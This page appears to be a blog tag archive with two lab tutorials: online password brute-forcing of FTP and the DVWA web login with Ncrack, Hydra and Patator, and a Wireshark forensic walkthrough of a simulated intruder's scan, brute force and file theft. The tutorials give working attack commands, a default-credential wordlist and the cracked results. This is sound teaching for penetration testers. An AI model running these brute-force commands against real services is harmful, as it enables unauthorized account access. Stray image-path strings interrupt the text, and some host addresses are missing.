Tag Archives: brute force

Online brute force attacks

Online password attacks involve attacking services such as FTP, TELNET, SSH, or HTTP to try and guess a password. This type of attack differs from an offline attack in thatin offline attacks, you have a hash and are only limited by the speed of your cracking machine, without communicating with the target. Online attacks are in constant communication with the target.

Because of this, online password attacks are extremely situational, and are very limited. The speed of the guesses can be affected by several yourbandwidth, the target’s bandwidth, throttling the amount of guesses (tar pitting), account lockouts, and changing passwords. It’s also very loud and will surely be detected by an IDS.

Online brute force attacks that iterate over millions of passwords and usernames such as the rockyou.txt dictionary are impractical. Online attacks are much more effective with a smaller list containing the default/weak credentials.

In this post, I’ll use some popular tools used for cracking passwords over the wire.

To make things easier, I’ll use a small subset of the rockyou.txt wordlist, and make sure to insert the correct password in the list.


Ncrack is a very fast network authentication crackingtool, which is helpful for testing a large number of hosts for weak passwords.

In this case, I’ll audit our Metasploitable box for default easily cracked FTP credentials.

# ncrack -p 21 -user postgres -P shortlist.txt
Starting Ncrack 0.4ALPHA ( http://ncrack.org ) at 2015-11-08 23:15 EST
Discovered credentials for ftp on 21/tcp: 21/tcp ftp: 'postgres' 'postgres'
Ncrack done: 1 service scanned in 30.01 seconds.
Ncrack finished.


Hydra is another tool that can crack passwords over the network using a list of usernames and passwords.

# hydra -l postgres -P shortlist.txt ftp
Hydra (http://www.thc.org/thc-hydra) starting at 2015-12-12 22:45:10
[DATA] max 16 tasks per 1 server, overall 64 tasks, 102 login tries (l:1/p:102), ~0 tries per task
[DATA] attacking service ftp on port 21[21][ftp] host:   login: postgres   password: postgres
1 of 1 target successfully completed, 1 valid password found
Hydra (http://www.thc.org/thc-hydra) finished at 2015-12-12 22:45:13

Hydra can also be used as an online password cracker.

I will need some information about the web form before I can unleash Hydra on it, specifically:

  • IP address/hostname
  • HTTP request method (i.e. GET or POST)
  • HTTP request parameters
  • Success/failure responses
  • Session cookies
  • Presence of lockout features that may slow down our cracking attempt
  • And, of course, a list of usernames and passwords.

For a username and password list, I rattled off the most popular usernames and passwords that came to mind.

  • admin• administrator
  • sysadmin
  • root
  • pass
  • password
  • admin
  • administrator
  • sysadmin
  • 1234
  • 12345
  • 123456
  • 1234567
  • 12345678
  • pass1234
  • password1234
  • password12345
  • default
  • root
  • toor

For the host, I decided to crack the login form for the Damn Vulnerable Web App https://github.com/RandomStorm/DVWA

We can capture information about the HTTP requests and responses using OWASP, but I decided to use a Firefox browser addon called Tamper Data.

Navigating to, and with Tamper Data running, I enter some data into the username and password fields.

# hydra -L usernames.txt -P shorterlist.txt http-form-get"/vulnerabilities/brute/:username=^USER^&password=^PASS^&Login=Login:F=password incorrect:H=Cookie: security;high;PHPSESSID=4npusjem9f38v9ao60qq48idm7"

-L and -P will iterate through a file, while -l and -p should be used if a single username/password is supplied

I can tell it’s an HTTP GET method one of two ways: Viewing the source of the page will the form action is a GET. I can also see the GET request inside of Tamper Data.

The next string includes some arguments Hydra needs. The arguments are separated by a colon.

The first argument tells Hydra where the address of the login form

The second argument tells Hydra where the username, password, and any other parameters passed to the server

The third argument contains a string that we know will appear upon either a successful or a failed login. If Hydra sees this string in an HTTP response, it will assume the login information was correct.

I also needed the presence of a fourth optional argument. Inside of DWVA is the web form vulnerable to brute force. We are required to log in to DWVA to access this.

This is done with cookies. We can see these inside of Tamper Data. We are looking for the PHPSESSID cookie (See https://security.stackexchange.com/questions/37020/why-does-hydra-return-16-valid-passwords-when-none-are-valid )Hydra (http://www.thc.org/thc-hydra) starting at 2015-12-12 22:26:43
[DATA] max 16 tasks per 1 server, overall 64 tasks, 64 login tries (l:4/p:16), ~0 tries per task
[DATA] attacking service http-get-form on port 80
[80][http-get-form] host: login: admin password: password
[STATUS] 41.00 tries/min, 41 tries in 00:01h, 23 todo in 00:01h, 16 active
[STATUS] 31.00 tries/min, 62 tries in 00:02h, 2 todo in 00:01h, 16 active
1 of 1 target successfully completed, 1 valid password found
Hydra (http://www.thc.org/thc-hydra) finished at 2015-12-12 22:29:37


Medusa and Hydra do the same thing. Some people prefer Medusa, others Hydra. According to the author of Medusa, Medusa crashes less, more modular, and faster due to multithreading.

I think which tool you choose is completely your preference; but I prefer Hydra solely because that is what I learned how to use first.Patator is a fast, multithreaded Python application supporting a lot of modules for different services.

$ ./patator.py ftp_login host=user=postgres password=FILE0 0=/usr/share/wordlists/shortlist.txt
15:29:01 patator    INFO - Starting Patator v0.7-beta (https://github.com/lanjelot/patator) at 2015-12-13 15:29 EST
15:29:01 patator    INFO -
15:29:01 patator    INFO - code  size    time | candidate                          |   num | mesg
15:29:01 patator    INFO - ---
15:29:01 patator    INFO - 230   17     0.014 | postgres                           |     8 | Login successful.
15:29:04 patator    INFO - 530   16     2.879 | 123456                             |1 | Login incorrect.
15:29:04 patator    INFO - 530   16     2.869 | 12345                              |     2 | Login incorrect.
15:29:04 patator    INFO - 530   16     2.861 | 123456789                          |     3 | Login incorrect.
15:29:04 patator    INFO - 530   16     2.872 | password                           |     4 | Login incorrect.
15:29:37 patator    INFO - Hits/Done/Skip/Fail/Size: 102/102/0/0/102, Avg: 2 r/s, Time: 0h 0m 35sVulnerability analysis part 4: Analyzingpackets with Wireshark

Here is the given scenario: I’m a consultant for the security firm AllSafe. Our biggest client, E-Corp, suspects that an AllSafe employee did something to their network, and they need proof. All I have to work with is the packet capture file from our IDS.

A quick note about running Wireshark: To capture packets, Wireshark must be started as root. A quick search of the exploit database shows how many exploits there are for Wireshark. Obviously, I don’t want to be running Wireshark as root.

To capture packets, it’s safest use Wireshark’s CLI version, tshark.

# sudo tshark -i eth0 -w /tmp/packet_capture1.pcap

This allows me to promiscuously capture packets on the eth0 interface.

Now if I want to examine the capture (or any other .pcap file I download from the internet) from Kali, I need to modify permissions and view the file as a non-root user.

# chmod ugo+rx /tmp/packet_capture1.pcap(ugo means users, groups, others, +rx means read and execute privileges). I’ll create a non-root user:

# adduser user1

After logging into our standard account with the supplied password, I’ll get to work.

$ wireshark /tmp/packet_capture1.pcap

I look for any host discovery scans. Nmap will do these scans differently depending on two things:

1) Is the user root?
2) Is it a local address (i.e. on the same subnet)

Nmap performs the following requests when scanning for hosts on a different network:

1) ICMP echo request
2) TCP SYN to port 443
3) TCP ACK to port 80
4) ICMP timestamp request

Filtering ICMP traffic reveals nothing.

Nmap performs ARP requests when scanning for hosts on the same subnet. I’ll look for ARP requests:

Bingo, I found host looking for hosts on our subnet. I’ll see if he was doing any port scans. I’m looking for TCP packets, specifically handshakes. I don’t know what kind of scan was performed, or which ports he scanned.I’ll start by looking for traffic involving the suspicious machine to common ports. I expect the scan to be done first, so if I start seeing a lot of traffic on the port, I’ll just assume that he didn’t scan that port.

I look at ports for FTP, SSH, Telnet, and SMTP. They all start with:

This indicates that the suspicious host did an nmap stealth scan of the machine. I look at a few more ports, and it appears that he scanned ports 1-30. I didn’t see any of the SYN, SYN ACK, or RST packets for any ports above 30.I want to see what websites he visited. I can do this by adding a filter on DNS traffic involving our suspicious machine.

It looks like he visited the website “toplessrobot.com”. This page has a lot of images and scripts which I can see if I take a closer look at his web traffic by adding a filter to see HTTP traffic.

Scrolling through the various loading of various widgets, images, and ads, I see a few interesting packets.

It looks like the suspicious .129 address tried visiting ~/bjones. I can follow the TCP stream of the subsequent HTTP GET packets and see what it contains.

Bob Jones must have had an Apache web server running. If I look a little after this, I see something else interesting:

The suspect downloaded a .rar password list. I wonder what he’ll use password list for…

Looking for any FTP traffic.

Here I see the password list being used to try to brute force the password for bjones. To find out if he was successful, let’s find out what response the server gives if the login is successful. According to https://en.wikipedia.org/wiki/List_of_FTP_server_return_codes, a server response of 230 indicates the user has successfully logged in.

If I go to where these packets occurred, I can see the correct FTP password being accepted by .131

User bjones had a password of password1234. Following the TCPstream can show us what mischief he was up to.

It looks like after navigating to the folder called Documents, the suspect downloaded the files andrea-nude.jpg, password-email.txt, password-email.txt, passwords.ods, and proposed-email.txt.

Using a little magic, I can rebuild these files and see what they contained.

Changing the filter to include packets with the FTP-DATA protocol. Now find the FTP-DATA packet after the response for the request for the .jpg. Save the raw dump to a location (I saved my in /tmp/rawdumps).

This data is meaningless in it’s current form. But using theLinux tools file and foremost, I can determine the type of file and then reconstruct the file by looking at headers, footers, and data.

$ file andrea-nude
andrea-nude: JPEG image data, JFIF standard 1.01, resolution (DPI), density 300x300, segment length 16, baseline, precision 8, 332x332, frames 3
$ foremost andrea-nude
Processing: andrea-nude
$ cd output/
$ ls
audit.txt jpg
$ eog jpg

I’ll do the same on the other files. Not all streams require us to decode them with file and foremost.

The email:

The OpenOffice spreadsheet:

Another email:

I also see the user SSHd to the victim machine. Obviously I won’t be able to see details of encrypted traffic.

This is all I wasable to find from this file.